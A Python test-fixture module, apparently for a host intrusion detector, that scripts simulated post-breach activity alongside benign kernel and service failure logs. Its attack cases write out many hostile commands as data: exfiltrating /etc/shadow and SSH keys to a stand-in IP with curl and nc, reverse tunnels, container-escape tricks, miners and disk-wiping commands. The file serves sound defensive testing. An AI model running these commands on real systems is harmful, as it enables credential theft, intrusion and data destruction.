"""What follows an entry (keys taken, other hosts looked for, data taken or destroyed) and what fails by itself."""

from tests.doubles.attack_steps import WEB, Step, record, said, shell, typed, wrote
from tests.doubles.host_story import Story

_ADDRESS = "203.0.113.66"
_LOOKS = ("whoami", "id", "uname -a", "hostname", "ip a", "ss -tulpn", "ps aux", "last", "lsblk", "w")


def _encrypted(ending: str) -> Step:
    def play(story: Story) -> None:
        for number in range(30):
            story.write(f"/srv/share/{number}.docx{ending}", by="/tmp/e", pid=6000, old=f"/srv/share/{number}.docx")

    return play


def _deleted(program: str) -> Step:
    def play(story: Story) -> None:
        for number in range(220):
            story.delete(f"/home/alice/docs/{number}.odt", by=program, pid=6001)

    return play


def _injected(arguments: str, program: str) -> Step:
    return lambda story: story.call("ptrace", program, arguments=arguments)


AFTERMATH_ATTACKS: dict[str, tuple[Step, ...]] = {
    "credential files": (
        typed("cat /home/alice/.ssh/id_rsa", **WEB),
        typed("cp -r /root/.aws/credentials /tmp/c"),
        typed("base64 -w0 /home/alice/.kube/config"),
        typed("sqlite3 '/home/alice/.config/google-chrome/Default/Login Data' .dump"),
        typed("tar czf /tmp/x.tgz /home/alice/.mozilla/firefox/abc.default/key4.db"),
        typed("cat /home/alice/.ssh/id_ecdsa /home/bob/.ssh/config"),
        typed("cat /run/secrets/kubernetes.io/serviceaccount/token"),
        typed("busybox cat /root/.git-credentials"),
        typed("head -c 5000 /etc/kubernetes/admin.conf"),
        typed("grep -r BEGIN /root/.ssh/id_ed25519"),
        typed("find / -name id_rsa"),
        typed("find / -perm -u=s -type f", user="bob"),
        typed("grep -ri password /etc /var/www", **WEB),
        typed(["find", "/", "-name", "*.kdbx", "-o", "-name", "wp-config.php"]),
        typed("/usr/bin/cat /proc/1234/environ"),
        typed("cat .ssh/id_rsa", cwd="/home/alice"),
    ),
    "ptrace injection": (
        _injected("4 1f40 7f00 9090", "/tmp/inject"),
        _injected("d 1f40 0 7ffd", "/usr/bin/python3.11"),
        _injected("4205 1f40 1 7ffd", "/tmp/inject"),
        typed("gdb -p 812"),
        typed(["gdb", "-batch", "-ex", 'call system("id")', "--pid=812"]),
        typed("gcore 812"),
        typed("strace -f -p 812 -s 9999 -e read"),
        typed("dd if=/proc/812/mem of=/tmp/m"),
        typed("gdb -n -q -p 812 -ex 'dump memory x 0 1'"),
    ),
    "container escape": (
        typed("nsenter --target 1 --mount --uts --ipc --net --pid -- bash"),
        typed("/usr/bin/nsenter -t1 -m sh"),
        typed("nsenter --mount=/proc/1/ns/mnt -- /bin/bash"),
        shell("echo $host_path/cmd > /tmp/cgrp/release_agent"),
        shell(
            "mkdir /tmp/c && mount -t cgroup -o rdma cgroup /tmp/c && echo 1 > /tmp/c/x/notify_on_release; echo /x > /tmp/c/release_agent"
        ),
        shell("echo '|/proc/%P/root/tmp/x' > /proc/sys/kernel/core_pattern", name="bash"),
        typed(["sysctl", "-w", "kernel.core_pattern=|/tmp/x %P"]),
        typed(["curl", "-XPOST", "--unix-socket", "/run/docker.sock", "http://x/containers/create", "-d", "{}"]),
        typed("docker run -it --rm -v /:/host alpine chroot /host", user="bob"),
        typed("docker run --rm -it --privileged --pid=host alpine nsenter -t 1 -m -u -n -i sh", user="bob"),
        typed("podman run --mount type=bind,source=/,target=/mnt x"),
        typed("lxc config device add x host disk source=/ path=/mnt/root recursive=true", user="bob"),
        typed("chroot /proc/1/root bash"),
        typed("docker create --cap-add SYS_ADMIN --device /dev/sda1 x"),
    ),
    "miner": (
        typed(f"/tmp/x -o stratum+tcp://{_ADDRESS}:3333 -u wallet", called="/tmp/x"),
        typed("./xmrig", called="/opt/xmrig"),
        typed("/var/tmp/a --donate-level 1 -k", called="/var/tmp/a"),
        shell("nohup ./sys -a rx/0 --randomx-1gb-pages -o pool.supportxmr.example:443 &"),
        typed(f"python3 m.py --coin monero -o {_ADDRESS}:443"),
        typed("systemd-helper -o pool.minexmr.example:4444 -u 4ABC -p x", called="/usr/local/bin/systemd-helper"),
    ),
    "port scan tools": (
        typed("nmap -sS 10.0.0.0/24"),
        typed("/tmp/nmap -Pn 10.0.0.5", called="/tmp/nmap"),
        typed("masscan 10.0.0.0/8 -p80"),
        typed("nc -zv 10.0.0.5 20-1000"),
        typed("nc -w1 -vnz 10.0.0.5 1-65535", **WEB),
        shell('for i in {1..254}; do timeout 1 bash -c "</dev/tcp/10.0.0.$i/22" && echo $i; done', name="bash"),
        typed("hydra -l root -P list ssh://10.0.0.5"),
        typed("python3 sqlmap.py -u http://x/"),
        typed("./fscan_amd64 -h 10.0.0.0/16", called="/tmp/fscan_amd64"),
        typed("busybox nc -z -v 10.0.0.5 1-100"),
    ),
    "exfiltration": (
        typed(f"curl -F file=@/etc/shadow http://{_ADDRESS}/"),
        typed(f"curl --data-binary @/root/.ssh/id_rsa http://{_ADDRESS}/"),
        typed(f"scp /home/alice/.aws/credentials x@{_ADDRESS}:"),
        shell(f"cat /etc/shadow | nc {_ADDRESS} 443"),
        shell(f"nc {_ADDRESS} 443 < /root/.ssh/id_ed25519"),
        shell(f"tar cz /var/lib/mysql/ | ssh x@{_ADDRESS} 'cat > a.tgz'"),
        shell(f"cat /etc/passwd /etc/shadow > /dev/tcp/{_ADDRESS}/443", name="bash"),
        typed(f"wget --post-file=/etc/shadow http://{_ADDRESS}/"),
        typed("curl -T /tmp/a.tgz https://transfer.sh/a"),
        typed(["curl", "-F", "document=@/tmp/a.zip", "https://api.telegram.org/bot1:A/sendDocument?chat_id=1"]),
        shell("dig $(cat /tmp/x | base64).oast.pro"),
        typed(f"curl -sT /srv/db.sql http://{_ADDRESS}/"),
        shell(f"tar cf - /srv | nc {_ADDRESS} 9000"),
        typed(f"rsync -az /root/.ssh/id_rsa x@{_ADDRESS}:/t/"),
    ),
    "mass file change": (
        _encrypted(".locked"),
        _encrypted(".AKIRA"),
        _deleted("/tmp/w"),
        _deleted("/usr/bin/python3.11"),
    ),
    "tunnels": (
        typed(f"ssh -fN -R 2222:127.0.0.1:22 x@{_ADDRESS}"),
        typed(f"ssh x@{_ADDRESS} -R 1080"),
        typed(f"ssh -o RemoteForward=2222:localhost:22 x@{_ADDRESS}"),
        typed(f"/tmp/.c client {_ADDRESS}:443 R:socks", called="/tmp/.c"),
        typed("ngrok tcp 22"),
        typed("cloudflared tunnel --url ssh://localhost:22", user="bob"),
        typed("./frpc -c frpc.ini", called="/tmp/frpc"),
        typed(f"socat TCP4-LISTEN:8080,fork,reuseaddr TCP4:{_ADDRESS}:443"),
        typed(f"autossh -M 0 -N -R 9999:localhost:22 x@{_ADDRESS}"),
        typed("iodine -f -P x t.evil.example"),
        typed("ssh -R 80:localhost:3000 serveo.net"),
        typed(f"ssh -NfD 0.0.0.0:1080 -w 0:0 x@{_ADDRESS}"),
    ),
    "DNS and hosts changed": (
        wrote("/etc/hosts"),
        wrote("/etc/resolv.conf", by="/usr/bin/python3.11"),
        wrote("/etc/nsswitch.conf", by="/usr/bin/sed", old="/etc/sedABC"),
    ),
    "discovery burst": (
        typed(*_LOOKS, user="bob"),
        typed("whoami", "id", "cat /etc/passwd", "uname -a", "ps aux", **WEB),
        typed("id", "ls -la /", "hostname", "cat /proc/version", user="postgres", session=False),
    ),
    "destruction": (
        typed("dd if=/dev/urandom of=/dev/sda bs=1M"),
        typed("shred -n1 /dev/nvme0n1"),
        typed("rm -rf --no-preserve-root /"),
        typed("rm -r -f /home"),
        typed("busybox rm -rf /var"),
        typed("find / -delete"),
        shell("echo b > /proc/sysrq-trigger"),
        record('type=PATH @ item=0 name="/proc/sysrq-trigger" inode=1 nametype=NORMAL'),
    ),
    "OOM kills": (
        said(
            "kernel",
            "Out of memory: Killed process 9 (java) total-vm:1kB, anon-rss:1kB, file-rss:0kB, shmem-rss:0kB, UID:0 pgtables:1kB oom_score_adj:0",
        ),
        said("kernel", "[12345.678901] Out of memory: Kill process 9 (mysqld) score 9 or sacrifice child"),
        said(
            "kernel",
            "Memory cgroup out of memory: Killed process 9 (node) total-vm:1kB, anon-rss:1kB, file-rss:0kB, shmem-rss:0kB, UID:0 pgtables:1kB oom_score_adj:999",
        ),
    ),
    "service crash loop": (
        said("systemd[1]", "nginx.service: Failed with result 'exit-code'.", times=5, every=10),
        said(
            "systemd[1]",
            "app.service: Failed with result 'core-dump'.",
            "app.service: Scheduled restart job, restart counter is at 2.",
            times=4,
            every=30,
        ),
        said("systemd[1]", "app.service: Start request repeated too quickly."),
    ),
    "disk errors": (
        said("kernel", "I/O error, dev sda, sector 5 op 0x0:(READ) flags 0x0 phys_seg 1 prio class 2"),
        said(
            "kernel",
            "[1.2] EXT4-fs error (device sda1): ext4_lookup:1785: inode #2: comm ls: deleted inode referenced: 5",
        ),
        said("kernel", "EXT4-fs (dm-1): Remounting filesystem read-only"),
        said("kernel", "Buffer I/O error on dev nvme0n1p1, logical block 5, lost async page write"),
        said("kernel", "XFS (sdb1): Filesystem has been shut down due to log error (0x2)."),
        said("kernel", "md/raid:md1: Disk failure on sdc, disabling device."),
        said("kernel", "BTRFS error (device sda1): parent transid verify failed on 1 wanted 2 found 3"),
        said("smartd[9]", "Device: /dev/sdb [SAT], 16 Offline uncorrectable sectors"),
    ),
    "NVIDIA Xid": (
        said("kernel", "NVRM: Xid (PCI:0000:3b:00): 79, pid='<unknown>', name=<unknown>, GPU has fallen off the bus."),
        said("kernel", "[9.1] NVRM: Xid (PCI:0000:3b:00): 13, pid=9, name=python, Graphics SM Warp Exception"),
        said("kernel", "NVRM: Xid (PCI:0000:3b:00): 94, pid=9, name=python, Contained: SM (0x1). RST: No, D-RST: No"),
        said("kernel", "NVRM: Xid (PCI:0000:3b:00): 119, Timeout after 6s of waiting for RPC response from GPU0 GSP!"),
    ),
    "segfault burst": (
        said(
            "kernel",
            "nginx[9]: segfault at 0 ip 0000000000000000 sp 00007ffd0 error 14 in nginx[55d0+1000]",
            times=7,
            every=5,
        ),
        said("kernel", "traps: a[9] general protection fault ip:5 sp:7 error:0 in a[5+1]", times=6),
        said("kernel", "[1.2] sudo[9]: segfault at 41414141 ip 00007f sp 00007f error 4 in libc.so.6[7f+1]"),
        said("kernel", "traps: pkexec[9] trap invalid opcode ip:5 sp:7 error:0 in pkexec[5+1]"),
    ),
    "hardware": (
        said("kernel", "mce: [Hardware Error]: CPU 1: Machine Check Exception: 5 Bank 7: be00000000800400"),
        said("kernel", "BUG: unable to handle kernel NULL pointer dereference at 0000000000000008"),
        said("kernel", "Kernel panic - not syncing: Fatal exception"),
    ),
}
